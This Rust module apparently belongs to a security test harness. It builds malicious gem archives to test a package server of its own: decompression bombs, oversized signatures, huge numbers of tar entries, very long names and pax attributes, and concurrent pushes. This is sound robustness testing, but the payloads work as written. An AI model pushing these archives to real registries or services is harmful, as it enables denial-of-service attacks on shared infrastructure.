//! Gems: how they are packed, and packings that ask too much of their reader.

use std::io::Write;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context, Result, ensure};

use super::attacker::crowd;
use super::bounds::{CROWD, SMALL_REQUEST};
use super::campaign::{Attack, Campaign};
use super::figure::Figure;
use super::request::Request;
use super::server::{Server, Setup};

/// A gem is accepted or refused within this time, in a debug build on a busy machine too.
const ANSWER: Duration = Duration::from_secs(10);

/// One block of a tar archive, in bytes.
const BLOCK: usize = 512;

const MEBIBYTE: usize = 1024 * 1024;

/// A small gemspec. `more` are further lines of it.
pub(crate) fn gemspec(name: &str, version: &str, more: &str) -> String {
    let any = "!ruby/object:Gem::Requirement\n  requirements:\n  - - \">=\"\n    - !ruby/object:Gem::Version\n      version: '0'";
    format!(
        "--- !ruby/object:Gem::Specification\nname: {name}\nversion: !ruby/object:Gem::Version\n  version: '{version}'\n\
         platform: ruby\nauthors:\n- Mallory\nbindir: bin\ncert_chain: []\ndate: 2024-01-02 00:00:00.000000000 Z\n\
         dependencies: []\nfiles: []\nmetadata: {{}}\nrequire_paths:\n- lib\nrequired_ruby_version: {any}\n\
         required_rubygems_version: {any}\nrubygems_version: 3.5.0\nspecification_version: 4\nsummary: A gem\n{more}"
    )
}

/// A gem with this gemspec and no files.
pub(crate) fn gem(gemspec: &str) -> Result<Vec<u8>> {
    Ok(gem_of(&gzip(gemspec.as_bytes())?, &gzip(&[0; 2 * BLOCK])?))
}

/// A gem of a packed gemspec and packed files.
pub(crate) fn gem_of(metadata: &[u8], data: &[u8]) -> Vec<u8> {
    tar(&[("metadata.gz", metadata), ("data.tar.gz", data)])
}

/// A tar archive of plain files.
pub(crate) fn tar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = Vec::new();
    for (path, contents) in files {
        append(&mut archive, &header(path, contents.len(), b'0'), contents);
    }
    archive.resize(archive.len() + 2 * BLOCK, 0);
    archive
}

fn append(archive: &mut Vec<u8>, header: &[u8; BLOCK], contents: &[u8]) {
    archive.extend_from_slice(header);
    archive.extend_from_slice(contents);
    archive.resize(archive.len().next_multiple_of(BLOCK), 0);
}

/// The header of an entry of this kind: `0` is a file, `L` a long name, `x` attributes.
fn header(path: &str, size: usize, kind: u8) -> [u8; BLOCK] {
    let mut header = [0; BLOCK];
    let mut put = |at: usize, text: &[u8]| header[at..at + text.len()].copy_from_slice(text);
    put(0, path.as_bytes());
    put(100, b"0000444\x000000000\x000000000\0");
    put(124, format!("{size:011o}\x0000000000000\0        ").as_bytes());
    put(156, &[kind]);
    put(257, b"ustar\x0000");
    let sum: u32 = header.iter().copied().map(u32::from).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header
}

/// Packs bytes with the `gzip` of the system: it belongs to every Debian, and the workbench needs no library.
pub(crate) fn gzip(bytes: &[u8]) -> Result<Vec<u8>> {
    let mut process = Command::new("gzip")
        .args(["-6", "-n", "-c"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .context("cannot run `gzip`")?;
    let mut input = process.stdin.take().expect("standard input is piped");
    let output = std::thread::scope(|scope| {
        // It writes while it reads: both at once, or each waits for the other.
        let written = scope.spawn(move || input.write_all(bytes));
        let output = process.wait_with_output()?;
        written.join().expect("writing does not panic")?;
        anyhow::Ok(output)
    })?;
    ensure!(output.status.success(), "`gzip` failed");
    Ok(output.stdout)
}

/// An attack that pushes one gem, whatever the answer is.
pub(crate) fn push_attack(name: &str, gem: Vec<u8>) -> Attack {
    let kibibytes = gem.len().div_ceil(1024);
    Attack::new(format!("{name} ({kibibytes} KiB)"), SMALL_REQUEST, move |server| {
        Ok(vec![Figure::time("answer", push(server, 0, &gem)?, ANSWER)])
    })
}

/// Pushes a gem and returns how long the answer took.
fn push(server: &Server, from: usize, gem: &[u8]) -> Result<Duration> {
    let start = std::time::Instant::now();
    let patient = server.attacker(from).patience(Duration::from_mins(1));
    patient.ask(&Request::push(&server.key, gem)).context("no answer to a push")?;
    Ok(start.elapsed())
}

/// Packings that unfold to much, or to very many.
pub(crate) fn campaign() -> Result<Campaign> {
    let plain = gzip(gemspec("bomb", "1.0.0", "").as_bytes())?;
    let no_files = gzip(&[0; 2 * BLOCK])?;
    let zeros = gzip(&vec![0; 256 * MEBIBYTE])?;
    let mut attacks = vec![
        push_attack("gem: bomb in metadata.gz", gem_of(&zeros, &no_files)),
        push_attack("gem: bomb in data.tar.gz", gem_of(&plain, &zeros)),
        push_attack(
            "gem: bomb in checksums",
            tar(&[("metadata.gz", &plain), ("data.tar.gz", &no_files), ("checksums.yaml.gz", &zeros)]),
        ),
        push_attack(
            "gem: bomb in a signature",
            tar(&[
                ("metadata.gz", &plain),
                ("data.tar.gz", &no_files),
                ("metadata.gz.sig", &vec![b'x'; MEBIBYTE]),
            ]),
        ),
        push_attack("gem: empty gzip members", gem_of(&plain, &gzip(&[])?.repeat(50_000))),
        push_attack("gem: many small files", gem_of(&plain, &gzip(&many_files(90_000))?)),
        push_attack("gem: long names", gem_of(&plain, &gzip(&long_names(60, MEBIBYTE))?)),
        push_attack("gem: long attributes", gem_of(&plain, &gzip(&attributes(60, MEBIBYTE))?)),
        push_attack("gem: many entries", many_files(2_000)),
        push_attack(
            "gem: readme of one line",
            gem_of(&plain, &gzip(&tar(&[("README.md", &b"[".repeat(256 * 1024 - 1))]))?),
        ),
    ];
    let folded = gem_of(&plain, &gzip(&vec![0; 60 * MEBIBYTE])?);
    attacks.push(Attack::plain("gem: 16 at once", CROWD, move |server| {
        crowd(16, 16, |number| drop(push(server, number, &folded)));
    }));
    Ok(Campaign { setup: Setup::unguarded(), attacks })
}

/// Empty files with short names.
fn many_files(count: usize) -> Vec<u8> {
    let mut archive = Vec::with_capacity(count * BLOCK);
    for number in 0..count {
        append(&mut archive, &header(&number.to_string(), 0, b'0'), b"");
    }
    archive
}

/// Files whose names are so long.
fn long_names(count: usize, length: usize) -> Vec<u8> {
    let (mut archive, name) = (Vec::new(), vec![b'n'; length]);
    for _ in 0..count {
        append(&mut archive, &header("././@LongLink", length, b'L'), &name);
        append(&mut archive, &header("n", 0, b'0'), b"");
    }
    archive
}

/// Files whose attributes are so long.
fn attributes(count: usize, length: usize) -> Vec<u8> {
    let record = format!("{length} path={}\n", "n".repeat(length - format!("{length} path=\n").len()));
    let mut archive = Vec::new();
    for _ in 0..count {
        append(&mut archive, &header("pax", length, b'x'), record.as_bytes());
        append(&mut archive, &header("n", 0, b'0'), b"");
    }
    archive
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_system_can_read_what_is_packed_here() {
        let archive = gzip(&tar(&[("a", b"one"), ("b/c", b"two")])).unwrap();
        let file = std::env::temp_dir().join(format!("keyward-attack-tar-{}", std::process::id()));
        std::fs::write(&file, archive).unwrap();
        let listed = crate::machine::answer(Command::new("tar").args(["-tzf"]).arg(&file));
        std::fs::remove_file(&file).unwrap();
        assert_eq!(listed.as_deref(), Some("a\nb/c"));
    }
}
